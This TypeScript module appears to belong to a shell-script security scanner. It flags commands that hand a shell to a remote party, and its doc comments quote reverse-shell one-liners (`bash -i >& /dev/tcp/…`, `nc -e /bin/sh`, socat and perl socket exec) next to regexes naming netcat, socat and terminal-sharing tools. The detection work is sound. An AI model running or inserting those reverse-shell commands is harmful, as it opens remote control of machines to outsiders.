/** Shells that take their commands from another machine: `bash -i >& /dev/tcp/…`, `nc -e /bin/sh …`, `sh -i | nc …`. */
import { runsItsInput } from "../../../documents/shell/runs-input.ts";
import { isShellName } from "../../../documents/shell/shell-names.ts";
import {
  laterStages,
  type Redirection,
  type ShellCommand,
  type ShellScript,
} from "../../../documents/shell/shell-script.ts";
import { commandLine, textOfWord } from "./command-line.ts";
import { type Connections, connectionsIn, DEVICE, isConnection } from "./shipments.ts";

/** The commands of a script that hand a shell to whoever is at the other end. */
export function shellsHandedOut(script: ShellScript): ShellCommand[] {
  const connections = connectionsIn(script);
  return script.commands.filter(
    (command) =>
      isConnected(command, connections) ||
      startsShell(command) ||
      printsIntoConnection(command) ||
      isInline(command),
  );
}

/** `bash -i >& /dev/tcp/host/4444 0>&1`, `sh <&5 >&5`, and `while read line; do $line >&5; done`. */
function isConnected(command: ShellCommand, connections: Connections): boolean {
  const redirections = [...command.redirections, ...command.surrounding];
  if (!redirections.some((one) => leadsAway(one, connections))) return false;
  const { name } = commandLine(command);
  const isTold = command.name !== undefined && (name === undefined || name === "eval");
  return isTold || isBareShell(command);
}

function leadsAway({ target }: Redirection, connections: Connections): boolean {
  return target !== undefined && (DEVICE.test(textOfWord(target)) || connections.has(target.literal ?? ""));
}

/** A shell that waits for commands: told no program, or to be interactive. */
function isBareShell(command: ShellCommand): boolean {
  const { name, arguments: words } = commandLine(command);
  if (!isShellName(name)) return false;
  return runsItsInput(command) || words.some(({ literal = "" }) => /^-[a-z]*i[a-z]*$/.test(literal));
}

/** `tmate -F` lets in whoever reads what it prints. */
const SHARES_TERMINAL =
  /^(?:tmate(?! (?:-V|show\S{0,40})(?: |$))(?: |$)|upterm host\b|gs-netcat\b|sshx(?: |$))/;

/** `nc -e /bin/sh host 4444`, `ncat --sh-exec bash …`, `socat exec:'bash -li',pty tcp:host:4444` */
function startsShell(command: ShellCommand): boolean {
  const { name = "", line } = commandLine(command);
  if (/^(?:nc|ncat|netcat)$/.test(name)) return GIVEN_SHELL.test(line);
  if (SHARES_TERMINAL.test(line)) return true;
  return name === "socat" && / (?:exec|system|shell):\S*(?:\b(?:ba|da|z|k|a)?sh\b|\$)/i.test(line);
}

const GIVEN_SHELL =
  / (?:-[a-zA-Z]*[ec]|--(?:sh-)?exec|--lua-exec)[ =]?(?:\/\S*\/|\$)?(?:(?:ba|da|z|k|a)?sh|SHELL|cmd(?:\.exe)?|powershell)\b/;

/** `sh -i < fifo | nc host 4444 > fifo` */
function printsIntoConnection(command: ShellCommand): boolean {
  return isBareShell(command) && laterStages(command).some((stage) => stage.some(isConnection));
}

/** `perl -e 'use Socket; … exec("/bin/sh -i")'`: of languages that are not read as programs. */
function isInline(command: ShellCommand): boolean {
  const { name = "", line } = commandLine(command);
  if (!/^(?:perl|php|lua|[gmn]?awk|tclsh)$/.test(name)) return false;
  return (
    /socket|fsockopen|\/inet\/tcp/i.test(line) &&
    /\b(?:exec|system|popen|passthru|shell_exec|getline)\b/.test(line) &&
    /\bsh\b|\|&|shell_exec/.test(line)
  );
}
